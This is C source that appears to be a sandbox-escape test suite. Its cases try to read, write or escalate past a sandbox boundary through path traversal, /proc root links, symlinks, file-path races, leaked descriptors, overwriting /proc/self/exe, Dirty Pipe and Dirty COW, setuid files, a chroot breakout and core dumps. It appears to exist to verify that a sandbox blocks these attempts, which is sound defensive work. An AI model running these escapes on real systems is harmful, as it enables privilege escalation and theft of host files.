// Files of the host.
#include "escape.h"
#include <linux/openat2.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/sysmacros.h>

ESCAPE(open) { loot("open", open(host("FILE"), O_RDONLY)); }

ESCAPE(openat2) {
	struct open_how how = {.flags = O_RDONLY};
	loot("openat2", syscall(SYS_openat2, AT_FDCWD, host("FILE"), &how, sizeof how));
}

// dotdot goes through a directory that is there.
ESCAPE(dotdot) {
	const char up[] = "../../../../../../../../../../../../../../../..";
	char path[1024];
	snprintf(path, sizeof path, "%s/%s%s", host("GIVEN"), up, host("FILE"));
	loot("open", open(path, O_RDONLY));
	int dir = open(host("GIVEN"), O_PATH | O_DIRECTORY);
	loot("openat", openat(dir, path + strlen(host("GIVEN")) + 1, O_RDONLY));
}

// long_path is the same with more in it than PATH_MAX, so that who cuts it off has the harmless part.
ESCAPE(long_path) {
	static char path[16384];
	int n = sprintf(path, "%s", host("GIVEN"));
	while (n < 8192)
		n += sprintf(path + n, "/.");
	sprintf(path + n, "/../../../../../../../../../../../..%s", host("FILE"));
	loot("open", open(path, O_RDONLY));
	static char page[8192] __attribute__((aligned(4096)));
	memset(page, '/', sizeof page); // and one that does not end before its mapping does
	mprotect(page + 4096, 4096, PROT_NONE);
	worked("open", open(page, O_RDONLY));
	memset(path, 'x', 300), path[300] = 0; // and a long name
	worked("open", open(path, O_RDONLY));
}

ESCAPE(proc_links) {
	static const char *const through[] = {"/proc/self/root", "/proc/thread-self/root", "/proc/1/root", "/proc/self/cwd/../../../../../.."};
	char path[1024];
	for (unsigned i = 0; i < sizeof through / sizeof *through; i++) {
		snprintf(path, sizeof path, "%s%s", through[i], host("FILE"));
		loot(through[i], open(path, O_RDONLY));
	}
}

ESCAPE(symlink) {
	const char *link = at("SHARE", "link");
	if (worked("symlink", symlink(host("FILE"), link)))
		loot("open", open(link, O_RDONLY));
}

ESCAPE(hardlink) {
	const char *name = at("SHARE", "hard");
	if (worked("link", link(host("FILE"), name)))
		loot("open", open(name, O_RDONLY));
}

// swapped and moved work where the host meanwhile puts links for directories and moves them about.
ESCAPE(swapped) {
	const char *name = at("SHARE", "swap/secret");
	for (int i = 0; i < 500; i++) {
		int fd = open(name, O_RDONLY);
		if (fd >= 0)
			loot("open", fd);
		usleep(100);
	}
}

ESCAPE(moved) {
	int dir = -1;
	for (int i = 0; i < 500; i++) {
		if (dir < 0)
			dir = open(at("SHARE", "deep/dir"), O_RDONLY | O_DIRECTORY);
		int fd = openat(dir, "../secret", O_RDONLY);
		if (fd >= 0)
			loot("openat", fd);
		usleep(100);
	}
}

// path_twice changes a path between who looks at it and who uses it.
static char path[256];

static void *flip(void *arg) {
	char good[256], bad[256];
	snprintf(good, sizeof good, "%s", at("SHARE", "mine"));
	snprintf(bad, sizeof bad, "%s/target", host("DIR"));
	while (!over) {
		memcpy(path, good, sizeof path);
		__asm__ volatile("" : : : "memory");
		memcpy(path, bad, sizeof path);
		__asm__ volatile("" : : : "memory");
	}
	return 0;
}

ESCAPE(path_twice) {
	close(open(at("SHARE", "mine"), O_RDWR | O_CREAT, 0600));
	if (thread(flip))
		for (int i = 0; i < 1000; i++)
			syscall(SYS_chmod, path, 0777);
}

// leaked uses descriptors that the caller has left open without O_CLOEXEC.
ESCAPE(leaked_file) {
	static char buf[4096];
	loot("read", num("LEAK"));
	long n = pread(num("LEAK"), buf, sizeof buf, 0);
	if (worked("pread", n))
		write(1, buf, n);
}

ESCAPE(leaked_dir) {
	const char *name = strrchr(host("FILE"), '/') + 1;
	char through[1024];
	snprintf(through, sizeof through, "/proc/self/fd/%lu/%s", num("LEAKDIR"), name);
	loot("proc", open(through, O_RDONLY));
	loot("openat", openat(num("LEAKDIR"), name, O_RDONLY));
	if (worked("fchdir", fchdir(num("LEAKDIR"))))
		loot("open", open(name, O_RDONLY));
}

// self_exe overwrites the program that it was, once nobody runs that any more.
ESCAPE(self_exe) {
	char name[64];
	if (!argument) {
		snprintf(name, sizeof name, "%d", open("/proc/self/exe", O_PATH));
		return again(at("GIVEN", "tool"), name);
	}
	snprintf(name, sizeof name, "/proc/self/fd/%s", argument);
	for (int i = 0; i < 100; i++) {
		int fd = open(name, O_WRONLY);
		if (fd >= 0 && write(fd, "overwritten", 11) > 0)
			return;
	}
	worked("open", -1);
}

// readonly changes a file that is there to be read, in all ways that have worked somewhere: Dirty COW and
// Dirty Pipe among them.
static void *map;

static void *forget(void *arg) {
	while (!over)
		madvise(map, 4096, MADV_DONTNEED);
	return 0;
}

ESCAPE(readonly) {
	static const char text[] = "changed";
	const char *name = at("GIVEN", "a");
	int fd = open(name, O_RDWR), from = open(host("PROGRAM"), O_RDONLY), p[2] = {-1, -1}, mem;
	loff_t off = 0;
	worked("open", fd);
	if (fd < 0)
		fd = open(name, O_RDONLY);
	worked("write", write(fd, text, 7));
	worked("ftruncate", ftruncate(fd, 1));
	worked("truncate", truncate(name, 1));
	worked("fallocate", fallocate(fd, 3, 0, 4096));
	worked("copy_file_range", syscall(SYS_copy_file_range, from, 0L, fd, &off, 7L, 0L));
	worked("sendfile", sendfile(fd, from, 0, 7));
	if (worked("pipe", pipe(p))) {
		static char fill[65536];
		write(p[1], fill, sizeof fill); // CVE-2022-0847: every buffer may be merged into
		read(p[0], fill, sizeof fill);
		worked("splice", splice(fd, &off, p[1], 0, 1, 0));
		write(p[1], text, 7);
		off = 0;
		worked("splice", splice(p[0], 0, fd, &off, 8, 0));
	}
	if ((map = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0)) != MAP_FAILED)
		memcpy(map, text, 7);
	if (worked("mmap", (long)(map = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0)))) {
		if (worked("mprotect", mprotect(map, 4096, PROT_READ | PROT_WRITE)))
			memcpy(map, text, 7);
		worked("madvise", madvise(map, 4096, MADV_REMOVE));
		worked("mremap", (long)mremap(map, 0, 4096, MREMAP_MAYMOVE));
	}
	if ((mem = open("/proc/self/mem", O_RDWR)) < 0)
		return;
	pwrite(mem, text, 7, (off_t)map);
	map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0); // CVE-2016-5195
	if (map != MAP_FAILED && thread(forget))
		for (int i = 0; i < 1000; i++)
			pwrite(mem, text, 7, (off_t)map);
}

// setid leaves a program of the caller's on the host for whoever runs it.
ESCAPE(setid) {
	const char *name = at("SHARE", "setid");
	int fd = open(name, O_RDWR | O_CREAT, 0777);
	if (worked("open", fd))
		worked("fchmod", fchmod(fd, 06777));
	close(fd);
	worked("chmod", chmod(name, 06777));
	worked("mknod", mknod(at("SHARE", "setid2"), S_IFREG | 06777, 0));
}

ESCAPE(mknod) { worked("mknod", mknod(at("SHARE", "device"), S_IFCHR | 0666, makedev(1, 3))); }

ESCAPE(handle) {
	struct { struct file_handle h; char bytes[128]; } h;
	const char *s = host("HANDLE");
	h.h.handle_bytes = strlen(s) / 2, h.h.handle_type = num("HANDLETYPE");
	for (unsigned i = 0; i < h.h.handle_bytes; i++)
		sscanf(s + 2 * i, "%2hhx", h.h.f_handle + i);
	loot("open_by_handle_at", open_by_handle_at(open(host("GIVEN"), O_RDONLY), &h.h, O_RDONLY));
}

ESCAPE(chroot) {
	int root = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("/sub", 0700);
	if (!worked("chroot", chroot("/sub")))
		return;
	worked("fchdir", fchdir(root));
	for (int i = 0; i < 64; i++)
		chdir("..");
	worked("chroot", chroot("."));
	loot("open", open(host("FILE"), O_RDONLY));
}

// core has the kernel write what the guest remembers into a directory of the host's.
ESCAPE(core) {
	struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
	worked("setrlimit", setrlimit(RLIMIT_CORE, &all));
	worked("prctl", prctl(PR_SET_DUMPABLE, 1, 0, 0, 0));
	worked("chdir", chdir(host("DIR")));
	signal(SIGABRT, SIG_DFL);
	abort();
}
